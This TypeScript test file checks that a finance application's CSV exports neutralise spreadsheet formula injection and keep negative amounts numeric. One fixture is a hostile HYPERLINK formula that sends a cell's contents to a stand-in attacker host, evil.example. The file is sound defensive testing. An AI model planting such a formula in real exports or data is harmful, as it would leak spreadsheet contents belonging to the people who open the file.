import { expect } from 'chai';
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { newApplicant, type ApiHarness } from '../support/api';
import { advance, demoOrgs, submit, today, type DemoOrgs } from '../applications/helpers';
import { financeSuite } from './helpers';
import { csvFile } from '../../db/reports/csv';

/**
 * A name someone typed must reach a finance officer's spreadsheet as text, never as a formula
 * (docs/security.md, "Files we hand out"); the amounts, negative ones included, stay numbers.
 */
describe('finance: CSV exports never hand a formula to the spreadsheet', function () {
  const suite = financeSuite('csvcells', { api: 'with worker' });
  let h: ApiHarness, orgs: DemoOrgs;
  const hostile = '=HYPERLINK("https://evil.example/?leak="&A1,"open")';

  before(async function () {
    this.timeout(120_000);
    h = suite.h;
    orgs = await demoOrgs({ ...suite.env, db: suite.db });
    await advance(h, await submit(h, await newApplicant(h), orgs), 'disbursal', '80000.00');
  });

  const download = async (path: string, init: RequestInit = {}) => {
    const res = await fetch(`${h.url}${path}`, { ...init, headers: { authorization: `Bearer ${await h.login('fin-officer')}`, 'content-type': 'application/json' } });
    expect(res.status).to.equal(200);
    return parse(Buffer.from(await res.arrayBuffer()), { bom: true }) as string[][];
  };

  it('quotes a community named like a formula in the indicator report, as the JSON keeps it', async function () {
    const made = await h.call('POST', '/v1/organisations', { token: await h.login('admin'), body: { type: 'community', name: hostile, region: 'Nanguan' } });
    expect(made.status, JSON.stringify(made.body)).to.equal(201);
    await submit(h, await newApplicant(h), orgs, { communityId: made.body.id });
    const q = `from=2020-01-01&to=${today()}&groupBy=community`;
    const json = await h.call('GET', `/v1/reports/kpi?${q}`, { token: await h.login('auditor') });
    expect(json.body.rows.find((r: any) => r.key === made.body.id).name).to.equal(hostile);
    const rows = await download(`/v1/reports/kpi?${q}&format=csv`);
    expect(rows.find((r) => r[1] === made.body.id)![0]).to.equal(`'${hostile}`);
  });

  it('keeps negative differences of a what-if as numbers', async function () {
    const rows = await download('/v1/forecasts/what-if?format=csv', { method: 'POST', body: JSON.stringify({ params: { subsidyShare: '0.5' }, quarters: 4, scope: 'reprice_open_loans' }) });
    const differences = rows.slice(1).flatMap((r) => r.filter((_, i) => rows[0]![i]!.endsWith(': difference')));
    expect(differences.some((d) => d.startsWith('-')), JSON.stringify(rows)).to.equal(true);
    for (const d of differences) expect(d).to.match(/^(-?\d+\.\d{2})?$/);
  });

  it('reads every cell back as written, or as text behind one quote when it could start a formula (property)', function () {
    const decimal = fc.tuple(fc.boolean(), fc.bigInt({ min: 0n, max: 10n ** 14n })).map(([neg, fen]) => `${neg ? '-' : ''}${fen / 100n}.${String(fen % 100n).padStart(2, '0')}`);
    const text = fc.oneof(fc.string(), fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'), fc.string()).map(([a, b]) => a + b));
    fc.assert(fc.property(fc.array(fc.array(fc.oneof(decimal, text), { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 5 }), (lines) => {
      const back = parse(csvFile(lines.map((cells) => ['row', ...cells])), { bom: true, relax_column_count: true }) as string[][];
      lines.forEach((cells, i) => cells.forEach((v, k) => {
        const formula = /^[=+\-@\t\r＝＋－＠]/.test(v) && !/^-?\d+(\.\d+)?$/.test(v);
        expect(back[i]![k + 1]).to.equal(formula ? `'${v}` : v);
      }));
    }));
  });
});
